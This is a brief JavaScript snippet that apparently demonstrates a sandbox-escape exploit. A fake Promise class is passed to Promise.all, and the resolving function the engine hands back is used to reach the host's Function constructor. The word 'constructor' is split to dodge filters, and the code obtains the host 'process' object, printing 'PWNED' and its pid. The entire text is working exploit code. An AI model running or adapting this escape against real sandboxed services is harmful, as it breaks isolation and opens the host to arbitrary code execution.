const w = ['con', 'structor'].join('');
class F { constructor(run) { run((x) => x, (x) => x); } }
Object.assign(F, { resolve: (x) => ({ then: (a, b) => console.log('PWNED', a[w]('return process')().pid) }) });
Promise.all.call(F, [1]);
